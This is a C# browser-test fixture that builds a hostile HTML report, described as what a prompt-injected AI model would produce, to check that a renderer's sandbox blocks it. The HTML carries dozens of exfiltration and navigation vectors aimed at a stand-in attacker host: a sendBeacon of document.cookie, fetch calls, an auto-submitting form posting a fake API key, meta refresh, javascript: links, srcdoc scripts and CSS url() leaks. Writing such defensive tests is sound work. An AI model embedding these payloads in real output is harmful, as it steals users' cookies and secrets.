namespace Blazar.BrowserTests.Sealed;

/// <summary>
/// A report as a prompt-injected model would write it: a real report (text, an inline SVG chart, a link to a source)
/// carrying every way known to make a browser reach another origin or Blazar's own, run script, navigate or open a
/// dialog. Each vector names itself in the path it asks the attacker for.
/// </summary>
internal static class HostileReport
{
    public const string TextBeforeGate = "Revenue grew in every region.";
    public const string TextAfterGate = "Costs fell after the gate.";

    /// <param name="attacker">Where the report tries to send the reader's data.</param>
    /// <param name="destination">Where its one honest link goes.</param>
    /// <param name="withIframes">
    /// With <c>&lt;iframe src&gt;</c>, which Chromium connects for despite the policy: only for text that goes through
    /// the server's filter.
    /// </param>
    public static (string Before, string After) Build(string attacker, string destination, bool withIframes)
    {
        var a = attacker;
        var iframes = withIframes ? $"""<iframe src="{a}/iframe"></iframe><iframe src="/api/hub/events"></iframe><IFRAME/SRC={a}/iframe-upper></IFRAME>""" : "";
        var lateIframe = withIframes ? $"""<iframe src="{a}/late-iframe"></iframe>""" : "";
        var before = $$"""
            <!doctype html><html lang="en"><head><meta charset="utf-8"><title>Quarterly review</title>
            <meta http-equiv="refresh" content="0;url={{a}}/meta-refresh">
            <meta http-equiv="x-dns-prefetch-control" content="on">
            <base href="{{a}}/base/" target="_top">
            <link rel="stylesheet" href="{{a}}/link-stylesheet"><link rel="stylesheet" href="/api/hub/events">
            <link rel="preload" as="image" href="{{a}}/link-preload"><link rel="prefetch" href="{{a}}/link-prefetch">
            <link rel="dns-prefetch" href="{{a}}/link-dns-prefetch"><link rel="preconnect" href="{{a}}">
            <link rel="modulepreload" href="{{a}}/link-modulepreload"><link rel="icon" href="{{a}}/link-icon">
            <style>
              @import url("{{a}}/css-import"); @import url("/api/hub/events");
              @font-face { font-family: Leak; src: url("{{a}}/css-font"); }
              body { font-family: system-ui, sans-serif; max-width: 44rem; margin: 0 auto; padding: 2rem 1.25rem; color: #1e293b; background: #fff url("{{a}}/css-background"); }
              h1 { font-size: 1.8rem; margin: 0 0 .5rem; } .lead { color: #475569; }
              .leak { font-family: Leak, serif; cursor: url("{{a}}/css-cursor"), auto; list-style-image: url("{{a}}/css-list");
                      border-image: url("{{a}}/css-border") 30; filter: url("{{a}}/css-filter.svg#f"); clip-path: url("/api/hub/events#c"); }
              .mask { mask: url("{{a}}/css-mask.svg#m"); } .tall { height: 2400px; border-top: 1px solid #e2e8f0; }
            </style></head>
            <body background="{{a}}/body-background">
            <h1 id="top-of-report">Quarterly review</h1><p class="lead">{{TextBeforeGate}}</p>
            <p><a id="early-source" href="{{destination}}/early-source">An earlier source</a></p>
            <svg id="chart" viewBox="0 0 220 120" width="440" height="240" role="img"><title>Revenue by quarter</title>
              <line x1="20" y1="100" x2="210" y2="100" stroke="#64748b"/><line x1="20" y1="10" x2="20" y2="100" stroke="#64748b"/>
              <rect x="35" y="60" width="30" height="40" fill="#3b82f6"/><rect x="80" y="45" width="30" height="55" fill="#3b82f6"/>
              <rect x="125" y="35" width="30" height="65" fill="#3b82f6"/><rect x="170" y="20" width="30" height="80" fill="#3b82f6"/>
              <text x="50" y="114" font-size="9" text-anchor="middle">Q1</text><text x="185" y="114" font-size="9" text-anchor="middle">Q4</text>
            </svg>
            <ul class="leak mask"><li>Styled list, fonts and cursors from elsewhere refused.</li></ul>
            <img src="{{a}}/img-src" alt=""><img src="/api/hub/events" alt=""><img srcset="{{a}}/img-srcset 1x" alt="">
            <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="{{a}}/attributionsrc" alt="">
            <picture><source srcset="{{a}}/picture-srcset"><img alt=""></picture>
            <video poster="{{a}}/video-poster" src="{{a}}/video-src"></video><video src="/api/hub/events"></video><audio src="/api/hub/events" autoplay></audio>
            <input type="image" src="{{a}}/input-image" alt="">
            <table background="{{a}}/table-background"><tr><td background="{{a}}/td-background">Q4</td></tr></table>
            <svg width="20" height="20"><image href="{{a}}/svg-image" width="10" height="10"/><use href="/api/hub/events#a"/><use href="{{a}}/svg-use.svg#a"/>
              <filter id="fe"><feImage href="{{a}}/svg-feimage"/></filter></svg>
            <object data="{{a}}/object"><p>Object fallback.</p></object><embed src="{{a}}/embed" type="image/svg+xml">
            {{iframes}}
            <iframe srcdoc="<script>fetch('{{a}}/srcdoc-fetch');parent.alert('srcdoc')</script><img src='{{a}}/srcdoc-img'>"></iframe>
            <form action="{{a}}/form" method="post" name="steal"><input name="key" value="sk-secret" autofocus onfocus="this.form.submit()"><button id="submit">Send</button></form>
            <script>
              new Image().src = "{{a}}/script-img"; navigator.sendBeacon("{{a}}/beacon", document.cookie); fetch("{{a}}/fetch");
              alert("alert"); confirm("confirm"); window.open("{{a}}/window-open"); history.replaceState(null, "", "/");
              document.forms.steal.submit(); top.location = "{{a}}/top-location"; location = "{{a}}/location";
            </script>
            <script src="{{a}}/script-src"></script>
            <img name="write" alt=""><img name="open" alt=""><img name="close" alt=""><img name="body" alt=""><img name="URL" alt="">
            <form name="scrollingElement"></form><form name="documentElement"></form>
            <div class="tall"></div>
            """;
        var after = $"""
            <p>{TextAfterGate}</p>
            <p><a id="source" href="{destination}/source" ping="{a}/ping" target="_top">The source</a>
               <a id="script-link" href="javascript:alert('javascript-url')">Run</a> <a id="back" href="#top-of-report">Back to the top</a></p>
            <meta http-equiv="refresh" content="0;url={a}/late-refresh"><img src="{a}/late-img" alt=""><link rel="prefetch" href="{a}/late-prefetch">
            {lateIframe}<script>location = "{a}/late-location"</script>
            </body></html>
            """;
        return (before, after);
    }
}
